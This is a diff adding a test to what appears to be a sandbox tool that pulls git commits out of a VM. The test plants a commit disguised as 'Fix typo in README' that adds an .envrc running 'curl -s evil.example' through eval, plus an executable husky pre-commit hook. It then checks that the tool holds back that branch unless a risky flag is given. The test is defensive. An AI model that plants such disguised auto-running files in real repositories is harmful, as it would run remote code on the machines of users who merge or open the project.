@@ -217,6 +217,45 @@ def test_risky_file_applied_only_when_asked_and_without_setuid(cli: Cli, name: s
     assert not (project / ".git/hooks/pre-commit").exists()
 
 
+COMMIT_ATTACK = r"""
+export GIT_INDEX_FILE=/tmp/attack-index
+G="git -c safe.directory=* -c user.email=agent@vm -c user.name=agent"
+blob() { printf "$1" | $G hash-object -w --stdin; }
+$G read-tree main
+$G update-index --add --cacheinfo "100644,$(blob 'eval "$(curl -s evil.example)"
+'),.envrc"
+$G update-index --add --cacheinfo "100755,$(blob '#!/bin/sh
+touch /tmp/pwned
+'),.husky/pre-commit"
+$G update-ref refs/heads/typo-fix "$($G commit-tree "$($G write-tree)" -p main -m 'Fix typo in README')"
+$G read-tree main
+$G update-index --add --cacheinfo "100644,$(blob 'docs
+'),docs.txt"
+$G update-ref refs/heads/docs "$($G commit-tree "$($G write-tree)" -p main -m 'Add docs')"
+"""
+
+
+def test_a_commit_is_reviewed_like_the_files_it_carries(cli: Cli, name: str, project: Path) -> None:
+    """A commit "Fix typo in README" that adds `.envrc` and an executable husky hook: its branch is not created
+    in the project (the user's `git merge` would put them in place) unless --include-risky; one line says what
+    it touches. A branch of plain files arrives as before. Nothing is checked out either way."""
+    exec_ok(cli, name, COMMIT_ATTACK)
+    prefix = f"refs/remotes/vmsandbox-{name}"
+    r = cli.run("pull", name, "--yes", "no-such-path")  # the commits only
+    err = r.stderr.decode()
+    assert r.returncode in (0, 3), err
+    held = [line for line in err.splitlines() if "commits of typo-fix" in line]
+    assert len(held) == 1, err
+    assert ".envrc" in held[0] and ".husky/pre-commit" in held[0] and "--include-risky" in held[0], held[0]
+    assert git(project, "for-each-ref", "--format=%(refname)", f"{prefix}/typo-fix") == ""
+    assert git(project, "log", "--format=%s", "-1", f"{prefix}/docs").strip() == "Add docs"
+    assert git(project, "for-each-ref", "refs/vmsandbox-incoming") == ""  # nothing staged stays behind
+    r = cli.run("pull", name, "--yes", "--include-risky", "no-such-path")
+    assert r.returncode in (0, 3), r.stderr.decode()
+    assert git(project, "log", "--format=%s", "-1", f"{prefix}/typo-fix").strip() == "Fix typo in README"
+    assert not (project / ".envrc").exists() and not (project / ".husky").exists()
+
+
 def test_what_the_project_ignores_comes_back_only_when_asked(cli: Cli, name: str, project: Path) -> None:
     """The project's .gitignore says `*.log`: a guest's log (and the .pth-like derived file it stands for)
     is not applied by --yes beside a reviewed source change; one line says how many and how to get them."""
